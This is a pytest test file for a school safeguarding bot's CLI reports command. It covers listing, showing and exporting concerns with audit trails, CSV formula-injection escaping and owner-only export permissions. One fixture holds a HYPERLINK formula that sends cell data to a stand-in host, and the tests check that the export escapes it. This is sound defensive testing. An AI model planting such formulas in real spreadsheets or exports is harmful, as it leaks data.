"""`python app.py reports list|show|export`: every concern, every field and the whole audit trail, from the database."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from adapters.cli.reports import show_text
from adapters.local.channel import LocalChannel
from adapters.local.records import load_concerns
from app import main
from bot import actions
from bot.config import LOCAL_HEADTEACHER, Settings
from bot.messages import IncomingMessage
from bot.runtime import open_runtime, running
from bot.store.store import Store

APP = Path(__file__).resolve().parents[2] / "app.py"


async def _file_concerns(url: str) -> None:
    """Two reports through the real engine; the Headteacher acknowledges, notes and closes the first."""
    channels: dict = {}
    runtime = await open_runtime(Settings(_env_file=None, POLICYBOT_DATABASE_URL=url), channels)  # type: ignore[call-arg]
    channels["local"] = LocalChannel(lambda: runtime.store)
    async with running(runtime):
        alice = dict(user="local:alice", conversation="local:alice", display_name="Alice Teacher")
        await runtime.engine.handle(IncomingMessage(**alice, action=actions.FORM_SUBMIT, form={
            "category": "parent_post", "danger": "no", "what": "A parent called Mr Lee a liar on the class page",
            "platform": "Facebook"}))
        await runtime.engine.handle(IncomingMessage(**alice, action=actions.FORM_SUBMIT, form={
            "category": "image", "danger": "yes", "what": "A Year 2 pupil's photo on a public page"}))
        head = dict(user=LOCAL_HEADTEACHER, conversation="local:inbox", display_name="Mrs Head")
        for action, note in ((actions.CONCERN_ACK, ""), (actions.CONCERN_NOTE, "Phoned the parent at 3pm"),
                             (actions.CONCERN_CLOSE, "Post removed")):
            await runtime.engine.handle(IncomingMessage(**head, action=action, value="C-0001", text=note))
        # Bob raises an URGENT concern in chat, names who is affected, then stops: C-0003 keeps what he gave.
        for text in ("report a concern", "1", "yes", "Sam B, Year 3", "cancel"):
            await runtime.engine.handle(IncomingMessage(user="local:bob", conversation="local:bob", text=text,
                                                        display_name="Bob"))


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """One database for the whole module: every test here only reads it."""
    url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('reports')}/t.db"
    asyncio.run(_file_concerns(url))
    return url


def reports(url: str, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.upper().startswith("POLICYBOT_")}
    env["POLICYBOT_DATABASE_URL"] = url
    return subprocess.run([sys.executable, str(APP), "reports", *args], capture_output=True, text=True, cwd=cwd,
                          env=env, timeout=60, check=False)


def test_list_shows_one_line_per_concern_newest_first_with_a_confidential_reminder(database: str,
                                                                                   tmp_path: Path) -> None:
    done = reports(database, "list", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    stopped, first, second = done.stdout.splitlines()
    assert stopped.startswith("C-0003") and "URGENT" in stopped
    assert first.startswith("C-0002") and "URGENT" in first and "A pupil's image or identity shared" in first
    assert "New" in first and "unassigned" in first
    assert second.startswith("C-0001") and "URGENT" not in second and "Closed" in second
    assert "An inappropriate post by a parent, carer or visitor" in second
    assert "CONFIDENTIAL" in done.stderr and "CONFIDENTIAL" not in done.stdout


def test_show_prints_every_field_and_the_audit_trail(database: str, tmp_path: Path) -> None:
    done = reports(database, "show", "c-0001", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    for expected in ("Reference:", "C-0001", "Kind of concern:", "An inappropriate post by a parent",
                     "Status:", "Closed", "Reported by:", "Alice Teacher (local:alice)",
                     "What happened:", "A parent called Mr Lee a liar on the class page",
                     "Where it happened:", "Facebook", "Child in immediate danger:", "No", "Audit trail:"):
        assert expected in out
    trail = out.split("Audit trail:")[1]
    for who, what in (("local:alice", "reported"), ("local:headteacher", "acknowledged"),
                      ("local:headteacher", "note: Phoned the parent at 3pm"),
                      ("local:headteacher", "closed: Post removed")):
        assert f"{who}  {what}" in trail


def test_show_says_when_the_reporter_stopped_before_finishing(database: str) -> None:
    async def load() -> str:  # in-process: the command's own wording, without another interpreter start-up
        store = await Store.open(database)
        try:
            [record] = await load_concerns(store, reference="C-0003")
        finally:
            await store.close()
        return show_text(record)

    shown = asyncio.run(load())
    assert "the reporter stopped before finishing" in shown and "Sam B, Year 3" in shown
    assert "local:bob  reporter stopped" in shown


def test_show_an_unknown_reference_says_so_and_exits_1(database: str, tmp_path: Path) -> None:
    done = reports(database, "show", "C-0099", cwd=tmp_path)
    assert done.returncode == 1 and "No concern with reference C-0099" in done.stderr and done.stdout == ""


def test_export_csv_to_a_file_has_every_field_and_the_trail_in_one_column(database: str, tmp_path: Path) -> None:
    target = tmp_path / "concerns.csv"
    done = reports(database, "export", "--format", "csv", "-o", str(target), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert [r["reference"] for r in rows] == ["C-0003", "C-0002", "C-0001"]
    closed = rows[2]
    assert closed["status"] == "closed" and closed["What happened"] == "A parent called Mr Lee a liar on the class page"
    assert closed["Where it happened"] == "Facebook" and closed["reporter_name"] == "Alice Teacher"
    assert "acknowledged" in closed["audit_trail"] and "Phoned the parent at 3pm" in closed["audit_trail"]
    assert rows[1]["urgent"] == "True" and rows[1]["Child in immediate danger"].startswith("Yes")
    assert rows[0]["Who is affected"] == "Sam B, Year 3" and rows[0]["details_stopped_at"]


def test_export_json_is_a_list_with_fields_and_audit_trail(database: str, tmp_path: Path) -> None:
    done = reports(database, "export", "--format", "json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    exported = json.loads(done.stdout)
    assert [c["reference"] for c in exported] == ["C-0003", "C-0002", "C-0001"]
    closed = exported[2]
    assert exported[0]["details_stopped_at"] and not exported[0]["complete"]
    assert {"name": "what", "label": "What happened",
            "value": "A parent called Mr Lee a liar on the class page"} in closed["fields"]
    assert [e["action"] for e in closed["events"]][:1] == ["reported"]
    assert {"actor": "local:headteacher", "action": "closed", "detail": "Post removed"}.items() <= next(
        e for e in closed["events"] if e["action"] == "closed").items()


def test_a_missing_database_is_reported_not_created(tmp_path: Path) -> None:
    done = reports(f"sqlite+aiosqlite:///{tmp_path}/nothing-here.db", "list", cwd=tmp_path)
    assert done.returncode == 1 and "no policybot database" in done.stderr.lower()
    assert not (tmp_path / "nothing-here.db").exists()


def test_a_database_that_cannot_be_opened_is_named_with_the_reason_not_a_traceback(tmp_path: Path) -> None:
    (tmp_path / "t.db").mkdir()  # a directory where the database file should be
    done = reports(f"sqlite+aiosqlite:///{tmp_path}/t.db", "list", cwd=tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"the database at sqlite+aiosqlite:///{tmp_path}/t.db could not be opened" in done.stderr
    assert "unable to open database file" in done.stderr and "POLICYBOT_DATABASE_URL" in done.stderr


def test_a_database_url_that_cannot_be_read_is_said_so_in_one_line(tmp_path: Path) -> None:
    done = reports("postgresql+asyncpg://policybot:s3cret@127.0.0.1:notaport/school", "list", cwd=tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "POLICYBOT_DATABASE_URL is not a database URL" in done.stderr and "s3cret" not in done.stderr


def test_a_concern_not_yet_delivered_says_so_in_the_list_and_in_show(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path}/undelivered.db"

    async def file_one() -> None:  # no platform at all: nowhere to deliver it yet
        runtime = await open_runtime(Settings(_env_file=None, POLICYBOT_DATABASE_URL=url), {})  # type: ignore[call-arg]
        async with running(runtime):
            await runtime.engine.handle(IncomingMessage(
                user="local:alice", conversation="local:alice", display_name="Alice", action=actions.FORM_SUBMIT,
                form={"category": "bullying", "danger": "no", "what": "Name-calling in a class group chat"}))

    asyncio.run(file_one())
    [line] = reports(url, "list", cwd=tmp_path).stdout.splitlines()
    assert line.startswith("C-0001") and "New, not yet delivered to the Headteacher" in line
    shown = reports(url, "show", "C-0001", cwd=tmp_path).stdout
    assert "New, not yet delivered to the Headteacher (policybot keeps trying)" in shown


# What staff type can look like a spreadsheet formula: Excel would run the first, and show #NAME? for the second.
FORMULA = '=HYPERLINK("http://127.0.0.1/x?"&A1,"Click for details")'
DASH = "- told class teacher, + rang home"


@pytest.fixture(scope="module")
def formula_database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """One concern whose words and reporter's name start like formulas, with curly quotes and accents."""
    url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('formulas')}/t.db"

    async def file_one() -> None:
        runtime = await open_runtime(Settings(_env_file=None, POLICYBOT_DATABASE_URL=url), {})  # type: ignore[call-arg]
        async with running(runtime):
            await runtime.engine.handle(IncomingMessage(
                user="local:zoe", conversation="local:zoe", display_name="@Zoë Brontë", action=actions.FORM_SUBMIT,
                form={"category": "bullying", "danger": "no", "what": FORMULA, "platform": DASH,
                      "affected": "Chloë’s “friends”", "actions": "@head told"}))

    asyncio.run(file_one())
    return url


def export_here(url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, *args: str) -> int:
    """`python app.py reports export ARGS` in this process (a traceback would fail the test), from tmp_path."""
    for name in [n for n in os.environ if n.upper().startswith("POLICYBOT_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("POLICYBOT_DATABASE_URL", url)
    monkeypatch.chdir(tmp_path)
    return main(["reports", "export", *args])


def read_csv(path: Path) -> dict[str, str]:
    [row] = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    return row


def test_csv_cells_that_look_like_formulas_are_text_in_a_spreadsheet_and_json_keeps_them_exactly(
        formula_database: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    assert export_here(formula_database, monkeypatch, tmp_path, "--format", "csv", "-o", "concerns.csv") == 0
    row = read_csv(tmp_path / "concerns.csv")
    assert row["What happened"] == "'" + FORMULA  # a leading quote: shown as text, no formula runs, no #NAME?
    assert row["Where it happened"] == "'" + DASH
    assert row["reporter_name"] == "'@Zoë Brontë"
    assert row["Done so far"] == "'@head told"
    assert row["Who is affected"] == "Chloë’s “friends”"  # only a risky first character is touched
    assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values())
    assert export_here(formula_database, monkeypatch, tmp_path, "--format", "json", "-o", "concerns.json") == 0
    [concern] = json.loads((tmp_path / "concerns.json").read_text(encoding="utf-8"))
    values = {f["name"]: f["value"] for f in concern["fields"]}
    assert values["what"] == FORMULA and values["platform"] == DASH and concern["reporter_name"] == "@Zoë Brontë"


def test_csv_export_starts_with_a_byte_order_mark_so_excel_reads_it_as_utf8(
        formula_database: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
        capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert export_here(formula_database, monkeypatch, tmp_path, "--format", "csv", "-o", "concerns.csv") == 0
    raw = (tmp_path / "concerns.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfreference,")  # without it, Excel reads “ as â€œ and ë as Ã«
    assert "Chloë’s “friends”" in raw.decode("utf-8-sig")
    capsysbinary.readouterr()
    assert export_here(formula_database, monkeypatch, tmp_path, "--format", "csv") == 0  # `> concerns.csv` alike
    assert capsysbinary.readouterr().out == raw


@pytest.mark.parametrize("form", ["csv", "json"])
def test_an_export_file_is_readable_by_its_owner_only_also_when_it_replaces_one(
        formula_database: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, form: str) -> None:
    new, old = tmp_path / f"new.{form}", tmp_path / f"old.{form}"
    old.write_text("an older, longer export\n" * 1000, encoding="utf-8")
    old.chmod(0o644)  # an earlier export, readable by everyone on the computer
    for target in (new, old):
        assert export_here(formula_database, monkeypatch, tmp_path, "--format", form, "-o", str(target)) == 0
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert old.read_bytes() == new.read_bytes()  # replaced entirely, nothing of the older one left


@pytest.mark.parametrize("where", ["missing/folder/concerns.csv", "a-folder"])
def test_an_export_that_cannot_be_written_says_so_in_one_line(
        formula_database: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, where: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a-folder").mkdir()
    target = tmp_path / where
    assert export_here(formula_database, monkeypatch, tmp_path, "--format", "csv", "-o", str(target)) != 0
    out, err = capsys.readouterr()
    assert out == "" and len(err.splitlines()) == 1, err
    assert str(target) in err and "Traceback" not in err
    assert ("does not exist" if where.startswith("missing") else "is a folder") in err
    assert not (tmp_path / "missing").exists() and list((tmp_path / "a-folder").iterdir()) == []


@pytest.mark.parametrize("typed", ["c1", "C-1", "c-0001"])
def test_show_takes_a_reference_typed_as_chat_takes_it(database: str, tmp_path: Path, typed: str) -> None:
    # `ack c1` works in chat, so a Headteacher who types `reports show c1` must see C-0001, not "no concern"
    done = reports(database, "show", typed, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "C-0001" in done.stdout and "A parent called Mr Lee a liar" in done.stdout


@pytest.mark.parametrize("typed", ["C\u00b2", "c-\u00b9"])
def test_show_of_a_reference_with_a_superscript_digit_is_not_found_not_a_traceback(database: str, tmp_path: Path,
                                                                                   typed: str) -> None:
    # str.isdigit() takes "²" for a digit but int() does not: the reference read as chat reads it must not crash
    done = reports(database, "show", typed, cwd=tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr and "No concern with reference" in done.stderr
